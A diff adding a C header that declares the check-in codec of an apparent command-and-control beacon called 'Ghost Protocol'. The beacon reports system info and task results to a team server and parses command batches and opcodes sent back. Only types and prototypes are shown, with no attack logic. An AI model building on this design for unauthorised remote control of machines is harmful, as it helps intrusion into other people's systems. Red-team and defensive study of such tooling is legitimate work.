@@ -0,0 +1,51 @@
+/*
+ * Ghost Protocol Beacon - Check-in Codec
+ * Header file for the check-in framing shared by the beacon and the team server
+ */
+
+#ifndef CHECKIN_CODEC_H
+#define CHECKIN_CODEC_H
+
+#include "beacon.h"
+#include "json.h"
+#include "telemetry.h"
+#include "tlv.h"
+
+// How a listener reads a record's value
+typedef enum {
+    CODEC_STRING,
+    CODEC_BYTES,
+    CODEC_UINT,
+    CODEC_BOOL
+} codec_kind_t;
+
+typedef struct {
+    unsigned int type;
+    const char* name;     // key of the same field in the JSON check-in
+    codec_kind_t kind;
+} codec_field_t;
+
+// Fields of each check-in container, ended by an entry with a NULL name
+extern const codec_field_t codec_system_info_fields[];
+extern const codec_field_t codec_result_fields[];
+extern const codec_field_t codec_backpressure_fields[];
+extern const codec_field_t codec_phase_fields[];
+
+const codec_field_t* codec_find_field(const codec_field_t* fields, unsigned int type);
+
+// Beacon side: check-in bodies out, command batches in
+void checkin_write_json(json_writer_t* writer, const beacon_config_t* config,
+                        const system_info_t* sysinfo, const result_record_t** results, int result_count,
+                        const backpressure_t* backpressure, const telemetry_t* telemetry);
+void checkin_write_tlv(tlv_writer_t* writer, const beacon_config_t* config,
+                       const system_info_t* sysinfo, const result_record_t** results, int result_count,
+                       const backpressure_t* backpressure, const telemetry_t* telemetry);
+int checkin_parse_reply(const char* body, size_t length, arena_t* arena,
+                        command_record_t** commands, int max_commands, long* ack, char* session);
+
+// Listener side: the command records of a binary reply
+void checkin_write_command(tlv_writer_t* writer, const char* id, size_t id_length,
+                           const char* name, size_t name_length, const char* args, size_t args_length,
+                           unsigned int opcode);
+
+#endif // CHECKIN_CODEC_H